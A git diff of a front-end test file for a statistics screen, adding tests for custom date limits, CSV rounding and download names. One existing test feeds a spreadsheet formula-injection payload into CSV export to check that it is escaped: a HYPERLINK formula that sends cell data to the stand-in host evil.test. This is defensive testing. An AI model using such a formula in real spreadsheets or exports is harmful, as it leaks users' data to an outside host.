@@ -2,7 +2,7 @@ import { screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { STATS_KPI_UNITS, STATS_KPIS, type StatsAnswer } from '@wac/shared/schemas/stats';
 import { HttpResponse, http } from 'msw';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { renderScreen } from '../../test/render';
 import { ORIGIN, server } from '../../test/server';
 import { seriesCsv } from '../../components/charts/chart-card';
@@ -10,6 +10,7 @@ import StatsScreen from './stats-screen';
 
 const answer = (range: string): StatsAnswer => ({
   timeZone: 'UTC',
+  today: '2026-11-05',
   period: { from: '2026-10-01', to: '2026-10-31' },
   previousPeriod: { from: '2026-08-31', to: '2026-09-30' },
   kpis: STATS_KPIS.map((key, i) => ({
@@ -58,7 +59,10 @@ const noFilterOptions = () =>
 
 beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
 afterAll(() => server.close());
-afterEach(() => server.resetHandlers());
+afterEach(() => {
+  server.resetHandlers();
+  vi.restoreAllMocks();
+});
 
 describe('stats screen', () => {
   it('asks for the chosen range, shows KPIs and a table alternative per chart', async () => {
@@ -118,6 +122,48 @@ describe('stats screen', () => {
     expect(screen.getByTestId('stats-figures')).toHaveAttribute('aria-busy', 'false');
   });
 
+  it("offers no custom day after the company's today, and says a refused day at its field", async () => {
+    const asked: string[] = [];
+    server.use(
+      http.get(`${ORIGIN}/api/stats`, ({ request }) => {
+        const q = new URL(request.url).searchParams;
+        asked.push(q.toString());
+        if (q.get('range') !== 'custom') return HttpResponse.json(answer('last28'));
+        return HttpResponse.json(
+          {
+            code: 'VALIDATION_FAILED',
+            message: 'Some fields are not valid.',
+            issues: [
+              { path: 'querystring.from', code: 'rangeInFuture', message: 'The range must not start after today.' },
+            ],
+          },
+          { status: 400 },
+        );
+      }),
+      ...noFilterOptions(),
+    );
+    const user = userEvent.setup();
+    renderScreen(<StatsScreen />);
+    await waitFor(() => expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('10'));
+    await user.click(screen.getByText('Custom'));
+    const pick = async (field: string, day: string) => {
+      await user.click(screen.getByRole('button', { name: field }));
+      // (For jsdom a calendar is mid-transition, so its buttons are found with `hidden`.)
+      const last = (name: string) => screen.queryAllByRole('button', { name, hidden: true }).at(-1);
+      for (let i = 0; i < 24 && !last(day); i++) await user.click(last('Previous month')!);
+      return last(day)!;
+    };
+    // The company's today (5 November, from the answer) is the last day offered.
+    expect(await pick('From', 'Friday, November 6, 2026')).toBeDisabled();
+    const today = await pick('From', 'Thursday, November 5, 2026');
+    expect(today).toBeEnabled();
+    await user.click(today);
+    await user.click(await pick('To', 'Thursday, November 5, 2026'));
+    await waitFor(() => expect(asked.at(-1)).toBe('range=custom&from=2026-11-05&to=2026-11-05'));
+    expect(await screen.findByText('The range must not start after today.')).toBeInTheDocument();
+    expect(screen.queryByText('Some fields are not valid.')).not.toBeInTheDocument();
+  });
+
   it('shows the definition of a KPI inside the main landmark, named by the button', async () => {
     server.use(
       http.get(`${ORIGIN}/api/stats`, () => HttpResponse.json(answer('last28'))),
@@ -142,8 +188,53 @@ describe('stats screen', () => {
         'Date',
         ['2026-10-01', '2026-10-02'],
         [{ key: 'h', label: 'Headcount, end', color: '', values: [10, null] }],
+        0,
       ),
     ).toBe('Date,"Headcount, end"\n2026-10-01,10\n2026-10-02,\n');
+  });
+
+  it('rounds a series CSV to the decimals the chart shows, written plainly', () => {
+    expect(
+      seriesCsv(
+        'Week of',
+        ['2026-09-28', '2026-10-05', '2026-10-12'],
+        [{ key: 'r', label: 'Rate', color: '', values: [7.333333333, 1234.25, -0.04] }],
+        1,
+      ),
+    ).toBe('Week of,Rate\n2026-09-28,7.3\n2026-10-05,1234.3\n2026-10-12,0\n');
+  });
+
+  it("names a chart's downloads after the chart and the period, its figures as the table shows them", async () => {
+    const named: string[] = [];
+    const saved: Blob[] = [];
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
+      named.push(this.download);
+    });
+    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
+      saved.push(blob as Blob);
+      return 'blob:stats';
+    });
+    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
+    server.use(
+      http.get(`${ORIGIN}/api/stats`, () =>
+        HttpResponse.json({
+          ...answer('last28'),
+          weeks: [{ weekStart: '2026-09-28', attendanceRate: 91.66666666666667, latenessRate: 7.333333333 }],
+        }),
+      ),
+      ...noFilterOptions(),
+    );
+    const user = userEvent.setup();
+    renderScreen(<StatsScreen />);
+    await user.click(await screen.findByTestId('weeks-csv'));
+    expect(named).toEqual(['attendance-and-lateness-by-week-2026-10-01-2026-10-31.csv']);
+    const csv = await saved[0]!.text();
+    expect(csv).toBe('Week of,Attendance rate,Lateness rate\n2026-09-28,91.7,7.3\n');
+    // The table says the same figures.
+    await user.click(screen.getByTestId('weeks-toggle'));
+    const row = within(screen.getByTestId('weeks-table')).getAllByRole('row')[1]!;
+    expect(row).toHaveTextContent('91.7%');
+    expect(row).toHaveTextContent('7.3%');
   });
 
   it('guards the names in a series CSV against spreadsheet formulas, not its numbers', () => {
@@ -152,6 +243,7 @@ describe('stats screen', () => {
       'Type',
       ['=HYPERLINK("https://evil.test/?"&A1,"Vacation") (days)', 'Sick;@SUM(1) (days)'],
       [{ key: 't', label: '+Taken', color: '', values: [-1.5, 2] }],
+      1,
     );
     expect(csv).toBe(
       'Type,\'+Taken\n"\'=HYPERLINK(""https://evil.test/?""&A1,""Vacation"") (days)",-1.5\n"Sick;\'@SUM(1) (days)",2\n',
